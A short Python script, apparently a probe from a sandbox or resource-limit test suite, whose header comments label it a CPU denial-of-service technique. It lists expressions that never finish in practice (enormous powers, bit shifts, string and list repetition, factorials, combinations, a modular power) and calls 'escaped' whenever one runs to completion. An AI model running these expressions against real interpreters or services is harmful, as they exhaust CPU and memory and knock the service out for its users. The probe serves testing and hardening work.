# technique: operations that no cancellation reaches once they run: powers, products, shifts, factorials
# goal: a result so large that computing it outlives every limit
# impact: dos
# dos: cpu
import math
import operator
tries = [
    lambda: 10 ** 10 ** 8,
    lambda: pow(10, 10 ** 8),
    lambda: (10).__pow__(10 ** 8),
    lambda: int.__pow__(10, 10 ** 8),
    lambda: operator.pow(10, 10 ** 8),
    lambda: 1 << 10 ** 9,
    lambda: operator.lshift(1, 10 ** 9),
    lambda: 'a' * 10 ** 10,
    lambda: [0] * 10 ** 9,
    lambda: operator.mul([0], 10 ** 9),
    lambda: math.factorial(10 ** 7),
    lambda: math.comb(10 ** 9, 10 ** 8),
    lambda: pow(3, 1 << 200000, (1 << 200000) - 159),
]
for number, attempt in enumerate(tries):
    try:
        attempt()
    except MemoryError:
        continue
    escaped(number)
